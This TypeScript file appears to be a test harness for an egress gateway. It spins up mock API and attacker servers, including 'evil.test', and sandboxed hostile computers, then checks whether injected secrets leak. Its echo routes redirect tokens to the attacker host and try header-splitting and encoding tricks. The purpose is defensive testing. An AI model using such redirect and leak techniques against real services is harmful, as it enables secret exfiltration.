import { randomBytes } from 'node:crypto';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { createEgressGateway, createEgressPolicy, parseEgressRules, type Secret } from '@jettson/egress';
import { answerWebSockets, startSecureServer, testSecret, trustTestServers } from '@jettson/egress/testing';
import type { Computer } from '../../computer.ts';
import { createTestComputers } from '../create-test-computers.ts';
import type { Attempt, Field } from './attempt.ts';
import { RAW_CLIENT } from './raw-client.ts';

/** What one attempt came to. */
export interface Outcome {
  output: string;
  /** Requests to the listed host that held the value. */
  reached: number;
  /** What the attacker's hosts saw, and what the listed host saw where the secret does not list it. */
  leaked: string[];
}

/** Hosts of a secret and of an attacker, a gateway, and hostile computers. */
export async function startField() {
  trustTestServers();
  const heard = { api: [] as string[], elsewhere: [] as string[] };
  const listen = (kind: keyof typeof heard) => async (request: IncomingMessage, response: ServerResponse) => {
    const body = Buffer.concat(await Array.fromAsync(request).catch(() => [])).toString();
    const { method, url, rawHeaders, rawTrailers } = request;
    heard[kind].push(JSON.stringify({ method, url, rawHeaders, rawTrailers, body }));
    if (kind === 'api') echo(request, response, body);
    else response.end('evil');
  };

  const api = await startSecureServer(
    (request, response) => void listen('api')(request, response as ServerResponse),
  );
  answerWebSockets(api, (socket) => socket.on('data', (piece) => heard.api.push(String(piece))));
  const other = await startSecureServer(
    (request, response) => void listen('elsewhere')(request, response as ServerResponse),
  );
  const evil = await startSecureServer(
    (request, response) => void listen('elsewhere')(request, response as ServerResponse),
    { onlyName: 'evil.test' },
  );
  const plain = createServer(listen('elsewhere')).on('clientError', () => {});
  await new Promise<void>((resolve) => plain.listen(0, '127.0.0.1', resolve));
  const plainPort = (plain.address() as AddressInfo).port;

  const policy = createEgressPolicy({
    allow: parseEgressRules('127.0.0.1/32'),
    resolve: async () => ['127.0.0.1'],
  });
  const gateway = createEgressGateway(policy);
  const computers = await createTestComputers({ gateway });
  const hosts = {
    api: `api.test:${api.port}`,
    apiPlain: `api.test:${plainPort}`,
    apiOther: `api.test:${other.port}`,
    evil: `evil.test:${evil.port}`,
    evilPlain: `evil.test:${plainPort}`,
  };
  to = { evil: `https://${hosts.evil}/`, plain: `http://${hosts.evilPlain}/` };

  /** A computer whose agent has a secret of its own, and a colleague with another one for the same host. */
  async function newHostile(): Promise<{ computer: Computer; field: Field }> {
    const computer = await computers.newComputer({ limits: { pids: 200 } });
    const colleague = await computers.newComputer();
    const make = (letter: string): Secret =>
      testSecret([hosts.api, `rebound.test:${evil.port}`], {
        placeholder: `jettson-secret-${letter}${randomBytes(12).toString('hex')}`,
        value: `ghp_${randomBytes(18).toString('hex')}`,
        inject: { header: true, query: false, body: false },
      });
    const [own, others] = [make('a'), make('b')];
    const network = { type: 'unrestricted', allowedHosts: [] } as const;
    await gateway.grant(computer.id, { network, secrets: [own] });
    await gateway.grant(colleague.id, { network, secrets: [others] });
    await computer.writeFile('raw.mjs', Buffer.from(RAW_CLIENT));
    const { placeholder, value } = own;
    return { computer, field: { ...hosts, placeholder, value, othersPlaceholder: others.placeholder } };
  }

  return {
    check: computers.check,
    newHostile,
    async attempt(
      { command }: Attempt,
      { computer, field }: { computer: Computer; field: Field },
    ): Promise<Outcome> {
      const options = { timeoutMs: 30_000, env: { TOKEN: field.placeholder } };
      const { stdout, stderr } = await computer.exec(command(field), options);
      const holds = (text: string) => text.includes(field.value);
      return {
        output: stdout + stderr,
        reached: heard.api.filter(holds).length,
        leaked: heard.elsewhere.filter(holds),
      };
    },
    forget: (value: string) => {
      heard.api = heard.api.filter((text) => !text.includes(value));
    },
    async close() {
      await computers.close();
      await gateway.close();
      plain.closeAllConnections();
      plain.close();
      await Promise.all([api.close(), other.close(), evil.close()]);
    },
  };
}

let to = { evil: '', plain: '' };

/** Shows what it was sent in the ways that servers do. */
function echo(request: IncomingMessage, response: ServerResponse, body: string): void {
  const { url = '', headers } = request;
  const key = String(headers['x-key'] ?? '');
  const all = JSON.stringify({ url, headers, body });
  const answers: Record<string, () => void> = {
    '/slow': () => setTimeout(() => response.end(all), 300),
    '/error': () => response.writeHead(500).end(`<h1>Error</h1> ${key}`),
    '/status': () => response.writeHead(418, `Teapot ${key}`).end(),
    '/cookies': () =>
      response.writeHead(302, { 'set-cookie': [`a=${key}`, `b=${key}`], location: `/?k=${key}` }).end(),
    '/base64': () => response.end(Buffer.from(`user:${key}`).toString('base64')),
    '/gzip': () => response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(all)),
    '/twice': () =>
      response.writeHead(200, { 'content-encoding': 'br, gzip' }).end(gzipSync(brotliCompressSync(all))),
    '/pieces': () => void inPieces(response, key),
    '/hints': () => {
      // Written by hand: an HTTP/2 server would do it otherwise.
      if (request.httpVersion === '1.1')
        response.socket?.write(`HTTP/1.1 103 Early Hints\r\nLink: <${key}>; rel=preload\r\n\r\n`);
      response.end(all);
    },
    '/trailers': () => {
      response.write('body ');
      response.addTrailers({ 'x-trailer': key });
      response.end(key);
    },
    '/escaped': () => response.end(`${JSON.stringify(key)} ${encodeURIComponent(key)} ${key}`),
    '/split': () => response.writeHead(200, { 'x-echo': encodeURIComponent(`${key}\r\nx: ${key}`) }).end(),
    '/to-evil': () => response.writeHead(307, { location: `${to.evil}?k=${key}` }).end(),
    '/to-plain': () => response.writeHead(302, { location: `${to.plain}?k=${key}` }).end(),
  };
  (answers[url] ?? (() => response.end(all)))();
}

async function inPieces(response: ServerResponse, text: string): Promise<void> {
  for (const letter of text) {
    response.write(letter);
    await new Promise((resolve) => setTimeout(resolve, 2));
  }
  response.end();
}
